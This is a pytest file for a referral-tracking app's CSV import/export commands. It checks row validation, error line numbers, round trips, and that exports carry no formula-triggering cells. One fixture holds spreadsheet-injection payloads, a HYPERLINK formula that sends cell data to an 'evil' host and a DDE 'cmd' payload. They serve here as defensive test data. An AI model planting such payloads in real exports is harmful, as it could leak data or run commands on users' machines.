"""CSV import and export on the command line: the API's checks and ingest path,
line numbers for bad rows, nothing stored from a failed file, and a round trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.conftest import IP_KEY, SECRET
from wom import create_app
from wom.store import ingest

CUSTOMERS = """id,name,email,acquired_at
ann,Ann Åberg,ann@example.org,2026-01-01T00:00:00Z
bob,Bob,,2026-01-03T00:00:00Z
cat,"Cat, the prospect",cat@example.org,
"""
REFERRALS = """from,to,at,channel
ann,dan,2026-01-04T00:00:00Z,podcast
dan,eve,2026-01-05T00:00:00Z,
"""
MENTIONS = """type,from,to,at
mention,ann,bob,2026-01-02T00:00:00Z
heard_from,bob,fay,2026-01-06T00:00:00Z
"""
PURCHASES = """customer,value,at,currency
bob,19.90,2026-01-07T00:00:00Z,EUR
eve,5,2026-01-08T00:00:00Z,
"""


@pytest.fixture
def write(tmp_path):
    def write(name: str, text: str) -> str:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return str(path)

    return write


def count(db, sql: str) -> int:
    return db.execute(f"SELECT count(*) FROM {sql}").fetchone()[0]


def imported(runner, path: str, *options: str):
    return runner.invoke(args=["import", path, *options])


@pytest.fixture
def loaded(runner, write):
    for name, text, options in [
        ("customers.csv", CUSTOMERS, ()),
        ("mentions.csv", MENTIONS, ()),
        ("referrals.csv", REFERRALS, ("--kind", "referrals")),
        ("purchases.csv", PURCHASES, ()),
    ]:
        result = imported(runner, write(name, text), *options)
        assert result.exit_code == 0, result.output
    return runner


def test_customers_with_a_time_sign_up_and_the_others_are_kept(runner, write, db):
    result = imported(runner, write("customers.csv", CUSTOMERS))
    assert result.exit_code == 0, result.output
    assert "Imported 3 customers rows: 2 events stored" in result.stdout
    people = dict(db.execute("SELECT external_id, status FROM people"))
    assert people == {"ann": "customer", "bob": "customer", "cat": "prospect"}
    names = dict(
        db.execute(
            "SELECT p.external_id, i.name FROM identities i "
            "JOIN people p ON p.id = i.person_id"
        )
    )
    assert names["ann"] == "Ann Åberg" and names["cat"] == "Cat, the prospect"


def test_every_kind_goes_through_ingest(loaded, db):
    credited = dict(
        db.execute(
            "SELECT c.external_id, r.external_id FROM credits k "
            "JOIN people c ON c.id = k.customer_id "
            "JOIN people r ON r.id = k.referrer_id"
        )
    )
    assert credited == {"bob": "ann", "dan": "ann", "eve": "dan"}
    assert count(db, "events WHERE type = 'heard_from'") == 1
    assert db.execute("SELECT sum(value) FROM purchases").fetchone()[0] == 2490


@pytest.mark.parametrize(
    ("name", "text", "options", "events"),
    [
        ("referrals.csv", REFERRALS, ("--kind", "referrals"), 2),
        ("customers.csv", CUSTOMERS, (), 2),
        ("mentions.csv", MENTIONS, (), 2),
        ("purchases.csv", PURCHASES, (), 2),
    ],
)
def test_the_same_file_twice_adds_nothing(
    runner, write, db, name, text, options, events
):
    path = write(name, text)
    imported(runner, path, *options)
    before = {table: count(db, table) for table in ("events", "people", "purchases")}
    again = imported(runner, path, *options)
    assert f"0 events stored, {events} seen before" in again.stdout
    assert {table: count(db, table) for table in before} == before


def test_bad_rows_are_reported_by_line_and_nothing_is_stored(runner, write, db):
    text = PURCHASES + "ann,-3,2026-01-09T00:00:00Z,\nbob,7,next tuesday,USD\n"
    result = imported(runner, write("purchases.csv", text))
    assert result.exit_code == 1
    assert "line 4, value: give a number from 0 to" in result.output
    assert "line 5, at:" in result.output
    assert "line 5, currency:" in result.output
    assert count(db, "events") == 0 and count(db, "people") == 0


def test_a_bad_customer_row_names_the_column(runner, write, db):
    text = CUSTOMERS + "zed,Zed,not-an-email,2026-01-01T00:00:00Z\n"
    result = imported(runner, write("customers.csv", text))
    assert result.exit_code == 1
    assert "line 5, email:" in result.output
    assert count(db, "people") == 0


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("from,to,at\nann,bob,2026-01-01T00:00:00Z\n", "--kind referrals"),
        ("who,whom\nann,bob\n", "give a header row"),
        ("id,phone\nann,123\n", "line 1, phone: not a column"),
        ("customer,at\nann,2026-01-01T00:00:00Z\n", "line 1, value: a required column"),
        ("type,from,to,at\nreferral,a,b,2026-01-01T00:00:00Z\n", "line 2, type"),
        ("id,name\nann\n", "line 2, row: give 2 cells"),
    ],
)
def test_a_file_that_cannot_be_read(runner, write, db, text, message):
    result = imported(runner, write("odd.csv", text))
    assert result.exit_code == 1
    assert message in result.output
    assert count(db, "events") == 0


@pytest.mark.parametrize("kind", ["customers", "referrals", "mentions", "purchases"])
def test_export_writes_what_import_reads(loaded, kind):
    result = loaded.invoke(args=["export", kind])
    assert result.exit_code == 0, result.output
    header = result.stdout.splitlines()[0]
    assert header.split(",")[0] in {"id", "from", "type", "customer"}


@pytest.fixture
def elsewhere(tmp_path):
    """A second app on its own database, to import what the first exported."""
    app = create_app(
        {
            "TESTING": True,
            "DATABASE": str(tmp_path / "copy.db"),
            "SECRET_KEY": SECRET,
            "IP_HMAC_KEY": IP_KEY,
            "WOM_ANALYTICS_BACKGROUND": False,
        }
    )
    yield app
    app.extensions["wom.store"].close()


KINDS = ("customers", "mentions", "referrals", "purchases")


def copy_over(runner, folder: Path, elsewhere) -> None:
    """Export every kind from ``runner``'s app and import it into ``elsewhere``."""
    folder.mkdir()
    for kind in KINDS:
        out = folder / f"{kind}.csv"
        result = runner.invoke(args=["export", kind, "-o", str(out)])
        assert result.exit_code == 0, result.output
    for kind in KINDS:
        path = str(folder / f"{kind}.csv")
        result = elsewhere.test_cli_runner().invoke(
            args=["import", path, "--kind", kind]
        )
        assert result.exit_code == 0, result.output


def test_a_round_trip_gives_the_same_people_and_credits(
    loaded, tmp_path, db, elsewhere
):
    copy_over(loaded, tmp_path / "exported", elsewhere)
    assert snapshot(elsewhere.extensions["wom.store"].reader()) == snapshot(db)


def snapshot(db) -> dict:
    return {
        "people": db.execute(
            "SELECT p.external_id, p.status, p.acquired_at, p.acquired_via, i.name, "
            "i.email FROM people p LEFT JOIN identities i ON i.person_id = p.id "
            "ORDER BY 1"
        ).fetchall(),
        "credits": db.execute(
            "SELECT c.external_id, r.external_id, k.kind, k.status FROM credits k "
            "JOIN people c ON c.id = k.customer_id "
            "JOIN people r ON r.id = k.referrer_id ORDER BY 1"
        ).fetchall(),
        "value": db.execute("SELECT sum(value) FROM purchases").fetchone()[0],
    }


def credit_pairs(db) -> set[tuple[str, str, str]]:
    """(customer, referrer, kind) of every credit, by external id."""
    return set(
        db.execute(
            "SELECT c.external_id, r.external_id, k.kind FROM credits k "
            "JOIN people c ON c.id = k.customer_id "
            "JOIN people r ON r.id = k.referrer_id"
        ).fetchall()
    )


def top_starters(app) -> list[str]:
    db = app.extensions["wom.store"].reader()
    names = dict(db.execute("SELECT id, external_id FROM people").fetchall())
    ranked = app.extensions["wom.analytics"].starters("reach", 10)["items"]
    return [names[row["node"]] for row in ranked]


def test_a_demo_round_trip_keeps_every_credit_and_the_top_starters(
    runner, app, db, tmp_path, elsewhere
):
    """Sign-ups through a link once left no trace in an export: 479 of 1,394
    credits of this demo were lost on the way."""
    result = runner.invoke(args=["demo", "--customers", "2000", "--seed", "0"])
    assert result.exit_code == 0, result.output
    kinds = {kind for *_, kind in credit_pairs(db)}
    assert "link" in kinds
    copy_over(runner, tmp_path / "exported", elsewhere)
    copied = elsewhere.extensions["wom.store"].reader()
    assert credit_pairs(copied) == credit_pairs(db)
    assert top_starters(elsewhere) == top_starters(app)


def test_an_export_holds_no_device_evidence(runner, db, tmp_path):
    runner.invoke(args=["demo", "--customers", "300", "--seed", "0"])
    evidence = {
        value
        for (value,) in db.execute(
            "SELECT visitor FROM events WHERE visitor IS NOT NULL "
            "UNION SELECT ip_hmac FROM events WHERE ip_hmac IS NOT NULL"
        )
    }
    assert evidence
    for kind in KINDS:
        exported = runner.invoke(args=["export", kind]).stdout
        cells = {cell for row in csv.reader(io.StringIO(exported)) for cell in row}
        assert not cells & evidence, kind


LINKED = """from,to,at,channel,link
ann,dan,2026-01-04T00:00:00Z,podcast,ann-podcast
"""


def test_a_link_row_gives_the_referrer_their_link_and_a_link_credit(runner, write, db):
    imported(runner, write("customers.csv", CUSTOMERS))
    result = imported(runner, write("linked.csv", LINKED), "--kind", "referrals")
    assert result.exit_code == 0, result.output
    assert db.execute(
        "SELECT p.external_id, l.channel FROM links l JOIN people p "
        "ON p.id = l.owner_id WHERE l.code = 'ann-podcast'"
    ).fetchall() == [("ann", "podcast")]
    assert ("dan", "ann", "link") in credit_pairs(db)


@pytest.mark.parametrize(
    "row, column, message",
    [
        ("bob,dan,2026-01-04T00:00:00Z,,ann-podcast", "link", "another person"),
        ("ann,dan,2026-01-04T00:00:00Z,,Not A Code", "link", "lower-case letters"),
        ("ann,dan,someday,,ann-2", "at", ""),
        ("a b,dan,2026-01-04T00:00:00Z,,ann-2", "from", ""),
    ],
)
def test_a_bad_link_row_is_reported_at_its_line_and_stores_nothing(
    runner, write, db, row, column, message
):
    imported(runner, write("customers.csv", CUSTOMERS))
    imported(runner, write("linked.csv", LINKED), "--kind", "referrals")
    events = count(db, "events")
    bad = write("bad.csv", f"from,to,at,channel,link\n{row}\n")
    result = imported(runner, bad, "--kind", "referrals")
    assert result.exit_code == 1
    assert f"line 2, {column}" in result.output and message in result.output
    assert count(db, "events") == events


def test_import_refuses_while_the_server_holds_the_lock(app, write, db_path: Path):
    from wom.store import Store

    server = Store(db_path)
    app.extensions["wom.store"].close()
    server.hold_lock()
    try:
        result = app.test_cli_runner().invoke(
            args=["import", write("customers.csv", CUSTOMERS)]
        )
        assert result.exit_code == 1
        assert "send them to its API instead" in result.output
    finally:
        server.close()


def refused(result) -> bool:
    """The command failed with a message, not a traceback."""
    return result.exit_code == 1 and isinstance(result.exception, SystemExit)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('id,name\nc1,"Ann\nc2,Bob\nc3,Cy\n', "line 2"),
        ('id,name\nc1,Ann\nc2,"Bob"by\nc3,Cy\n', "line 3"),
    ],
    ids=["never closed", "text after the closing quote"],
)
def test_a_stray_quote_stops_the_file_at_its_line(runner, write, db, text, line):
    result = imported(runner, write("quoted.csv", text))
    assert refused(result), result.output
    assert f"{line}, row: " in result.output and "quote" in result.output
    assert count(db, "people") == 0


@pytest.mark.parametrize(
    ("text", "where"),
    [
        (
            "id,name,email,acquired_at\n"
            "c0,Zed,z@example.org,2026-01-01T00:00:00Z\n"
            "c1,Ann,bad-email,\n",
            ["line 3, email:"],
        ),
        (
            "id,name,email\nc1,Ann,ann@example.org\nc2,Bob,bad-email\n",
            ["line 3, email:"],
        ),
        (
            "id,name,email,acquired_at\n"
            "c1,Ann,bad-email,\n"
            "c2,Bob,bob@example.org,2026-01-01T00:00:00Z\n"
            "c3,Cy,cy@example.org,soon\n",
            ["line 2, email:", "line 4, acquired_at:"],
        ),
    ],
    ids=["after a dated row", "no row has a time", "both kinds of row"],
)
def test_customers_without_a_time_are_reported_at_their_own_line(
    runner, write, db, text, where
):
    result = imported(runner, write("customers.csv", text))
    assert refused(result), result.output
    for problem in where:
        assert problem in result.output
    assert count(db, "people") == 0


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"id,name\nc1,Ann\nc2,Bo\xffb\n", "line 3, file: not UTF-8"),
        (b'id,name\nc1,"' + b"A" * 140_000 + b'"\n', "line 2, row: a cell is longer"),
        (
            b"id,name\nc1,Ann\nc2," + b"B" * 140_000 + b"\n",
            "line 3, row: a cell is longer",
        ),
    ],
    ids=["bad UTF-8", "long quoted cell", "long plain cell"],
)
def test_a_file_the_csv_reader_cannot_take(runner, tmp_path, db, data, message):
    path = tmp_path / "odd.csv"
    path.write_bytes(data)
    result = imported(runner, str(path))
    assert refused(result), result.output
    assert message in result.output
    assert count(db, "people") == 0


def test_a_byte_order_mark_and_windows_line_ends_are_read(runner, tmp_path, db):
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbfid,name\r\nc1,Ann\r\nc2,Bob\r\n")
    result = imported(runner, str(path))
    assert result.exit_code == 0, result.output
    assert count(db, "people") == 2


FORMULAS = {
    '=HYPERLINK("http://evil/?"&A2,"x")': "=c0@example.org",
    "+1 555 0100": "+c1@example.org",
    "-ann": "-c2@example.org",
    "@ann": "c3@example.org",
}


@pytest.fixture
def formulas(app):
    """People, a referral and a purchase whose text starts like a formula."""
    ingest(
        app.extensions["wom.store"],
        [
            {
                "type": "signup",
                "customer": f"c{n}",
                "name": name,
                "email": email,
                "at": "2026-01-01T00:00:00Z",
            }
            for n, (name, email) in enumerate(FORMULAS.items())
        ]
        + [
            {
                "type": "referral",
                "from": "c0",
                "to": "c1",
                "at": "2026-01-02T00:00:00Z",
                "channel": "=cmd|' /C calc'!A0",
                "event_id": "@sum(1+1)",
            },
            {
                "type": "mention",
                "from": "c2",
                "to": "c3",
                "at": "2026-01-02T00:00:00Z",
                "channel": "+radio",
                "event_id": "=m1",
            },
            {
                "type": "purchase",
                "customer": "c1",
                "value": 0,
                "at": "2026-01-03T00:00:00Z",
                "event_id": "-2+3",
            },
        ],
        source="test",
    )
    return app.test_cli_runner()


@pytest.mark.parametrize("kind", KINDS)
def test_export_makes_no_cell_a_formula(formulas, kind):
    result = formulas.invoke(args=["export", kind])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_quotes_a_formula_once(formulas):
    result = formulas.invoke(args=["export", "customers"])
    assert "c2,'-ann,'-c2@example.org," in result.stdout
    assert 'c0,"\'=HYPERLINK(""http' in result.stdout


def test_a_round_trip_keeps_text_that_looks_like_a_formula(
    formulas, tmp_path, app, elsewhere
):
    copy_over(formulas, tmp_path / "exported", elsewhere)
    assert texts(elsewhere.extensions["wom.store"].reader()) == texts(
        app.extensions["wom.store"].reader()
    )


def texts(db) -> list:
    return db.execute(
        "SELECT name, email FROM identities UNION ALL "
        "SELECT channel, event_id FROM events WHERE type != 'signup' ORDER BY 1, 2"
    ).fetchall()


@pytest.mark.parametrize(
    ("cell", "name"),
    [
        ("'=1+1", "=1+1"),
        ("'-ann", "-ann"),
        ("'@ann", "@ann"),
        ("''=1+1", "'=1+1"),
        ("'Brien", "'Brien"),
        ("Ann '=x", "Ann '=x"),
    ],
)
def test_import_drops_only_the_quote_export_added(runner, write, db, cell, name):
    text = f"id,name,acquired_at\nc1,{cell},2026-01-01T00:00:00Z\n"
    result = imported(runner, write("customers.csv", text))
    assert result.exit_code == 0, result.output
    assert db.execute("SELECT name FROM identities").fetchone()[0] == name
